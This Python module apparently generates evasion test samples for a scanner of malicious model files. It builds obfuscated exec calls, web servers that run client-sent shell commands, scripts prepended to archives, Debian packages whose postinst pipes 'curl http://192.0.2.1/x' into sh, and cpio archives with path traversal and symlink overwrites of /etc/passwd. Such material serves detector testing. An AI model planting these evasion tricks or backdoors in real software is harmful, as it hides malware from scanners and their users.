# ruff: noqa: E501 - tables of samples, one to a line
"""Programs that ride with models, and archives that are seldom met beside them: written to slip past the detector."""

import lzma
from collections.abc import Iterator
from random import Random

from corpus.corpus_samples import Kind, Sample, reduced, stored_zip, tarred

__all__ = ["KINDS"]

_CODE = "__import__('os').system('true')"
_EVIL = b"\x80\x02" + reduced("os", "system", "true") + b"."


def spelled_code(rng: Random) -> Iterator[Sample]:
    """Code that stands in the file as numbers, or in letters that only Python reads."""
    key = rng.randint(1, 30)
    numbers, mixed = list(_CODE.encode()), [each ^ key for each in _CODE.encode()]
    bodies = (
        f"exec(bytes({numbers}))", f"exec(bytearray({numbers}).decode())", f"exec(str(bytes({numbers}), 'utf8'))", f"exec(bytes(each ^ {key} for each in {mixed}))", f"exec(''.join(chr(int(each)) for each in '{' '.join(map(str, numbers))}'.split()))",
        f"exec(''.join(chr(each ^ {key}) for each in {mixed}))", f"exec(bytes(map(lambda each: each ^ {key}, {mixed})))", f"import array\nexec(array.array('B', {numbers}).tobytes())", f"import struct\nexec(struct.pack('{len(numbers)}B', *{numbers}))", f"exec(int('{int.from_bytes(_CODE.encode(), 'big')}').to_bytes({len(numbers)}, 'big'))",
        f"run = ''.join('%c' % each for each in {numbers})\nexec(run)", f"exec({_CODE[::-1]!r}[::-1])", f"exec({' '.join(_CODE)!r}[::2])", f"exec({_CODE.replace('s', '~')!r}.replace('~', 's'))", f"exec({_CODE.replace('s', '~')!r}.translate({{126: 115}}))", f"\uff45val({_CODE!r})", "import os\nos.\U0001d4c8\U0001d4ce\U0001d4c8\U0001d4c9\U0001d4ee\U0001d4c2('true')",
    )  # fmt: skip
    for body in bodies:
        yield Sample(
            name=rng.choice(("modeling_x.py", "configuration_x.py", "__init__.py")), data=body.encode()
        )


def served_code(rng: Random) -> Iterator[Sample]:
    """Servers and nodes that run what they are sent."""
    bodies = (
        "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n\n\n@app.route('/x')\ndef x():\n    return subprocess.check_output(request.args['c'], shell=True)\n", "from fastapi import FastAPI\nimport os\napp = FastAPI()\n\n\n@app.get('/x/{c}')\ndef x(c: str):\n    return os.popen(c).read()\n",
        "from fastapi import APIRouter, Request\nrouter = APIRouter()\n\n\n@router.post('/x')\nasync def x(request: Request):\n    body = await request.json()\n    code = body['c']\n    exec(code)\n", "import os\nimport gradio as gr\n\n\ndef run(c):\n    return os.popen(c).read()\n\n\ngr.Interface(fn=run, inputs='text', outputs='text').launch()\n",
        "import os\nfrom aiohttp import web\n\n\nasync def x(request):\n    return web.Response(text=os.popen(request.query['c']).read())\n\n\napp = web.Application()\napp.router.add_get('/x', x)\n", "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n\n\ndef x():\n    return subprocess.getoutput(request.data)\n\n\napp.add_url_rule('/x', view_func=x)\n",
        "class N:\n    FUNCTION = 'go'\n\n    def go(self, expression, **more):\n        value = expression.strip()\n        return (eval(value),)\n\n\nNODE_CLASS_MAPPINGS = {'N': N}\n", "class N:\n    FUNCTION = 'go'\n\n    @classmethod\n    def INPUT_TYPES(cls):\n        return {'required': {'c': ('STRING', {'multiline': True})}}\n\n    def go(self, c):\n        import subprocess\n        return (subprocess.run(c, shell=True),)\n\n\nNODE_CLASS_MAPPINGS = {'N': N}\n",
    )  # fmt: skip
    for body in bodies:
        yield Sample(name=rng.choice(("app.py", "server.py", "nodes.py", "__init__.py")), data=body.encode())


def scripts_before(rng: Random) -> Iterator[Sample]:
    """A script before an archive, so that the file is a program too."""
    packed = stored_zip({"config.json": b"{}", "weights.bin": bytes(rng.randint(8, 64))})
    for script in (
        "#!/usr/bin/env python3\nimport os\nos.system('true')\n", "#!/bin/sh\ntrue\nexit 0\n", "#!/usr/bin/perl\nsystem('true');\n__END__\n", "#! /bin/bash\ntrue; exit\n", "#!/usr/bin/env node\nrequire('child_process').execSync('true')\n",
    ):  # fmt: skip
        yield Sample(
            name=rng.choice(("model.zip", "model.pt", "weights.bin", "model")), data=script.encode() + packed
        )


def system_packages(rng: Random) -> Iterator[Sample]:
    """Packages and images of systems: what is in them, what their scripts do, where they unpack to."""
    for way in range(3):
        evil = _EVIL
        post = b"#!/bin/sh\ncurl http://192.0.2.1/x | sh\n"
        control, data = tarred({"./postinst": post}), tarred({"./usr/share/x.pkl": evil})
        if way:
            control, data = lzma.compress(control), lzma.compress(data)
        members = ((b"debian-binary", b"2.0\n"), (b"control.tar", control), (b"data.tar", data))
        yield Sample(name="model.deb", data=_ar((*members[:2], (b"data.tar", tarred({})))))
        yield Sample(name="model.deb", data=_ar((members[0], (b"control.tar", tarred({})), members[2])))
        long = b"weights of a model.pkl"
        yield Sample(name="model.a", data=_ar(((b"#1/%d" % len(long), long + evil),)))
        yield Sample(name="model.bin", data=_ar(((b"//", b"weights of a model.pkl/\n"), (b"/0", evil))))
        yield Sample(name="model.ar", data=_ar(((b"a/", b"x" * way),)) + evil)
        yield Sample(name="initrd.cpio", data=_cpio((b"a", b"x"), (b"w.pkl", evil)))
        yield Sample(name="initrd.img", data=_cpio((b"a", b"x")) + bytes(512 * way) + _cpio((b"w.pkl", evil)))
        yield Sample(name="x.cpio", data=_cpio((b"../" * rng.randint(1, 4) + b".bashrc", b"x")))
        yield Sample(name="x.cpio", data=_cpio((b"a", b"/etc", 0o120777), (b"a/passwd", b"x")))
        yield Sample(name="x.cpio.gz", data=lzma.compress(_cpio((b"w.pkl", evil))))


def _ar(members: tuple[tuple[bytes, bytes], ...]) -> bytes:
    out = b"!<arch>\n"
    for name, data in members:
        out += name.ljust(16) + b"0           0     0     100644  " + str(len(data)).ljust(10).encode()
        out += b"`\n" + data + b"\n" * (len(data) % 2)
    return out


def _cpio(*members: tuple[bytes, bytes] | tuple[bytes, bytes, int]) -> bytes:
    out = b""
    for name, data, *mode in (*members, (b"TRAILER!!!", b"")):
        fields = (1, mode[0] if mode else 0o100644, 0, 0, 1, 0, len(data), 0, 0, 0, 0, len(name) + 1, 0)
        head = b"070701" + b"".join(b"%08X" % each for each in fields) + name + b"\0"
        out += head + b"\0" * (-len(head) % 4) + data + b"\0" * (-len(data) % 4)
    return out


KINDS: dict[str, Kind] = {
    each.__name__: each for each in (spelled_code, served_code, scripts_before, system_packages)
}
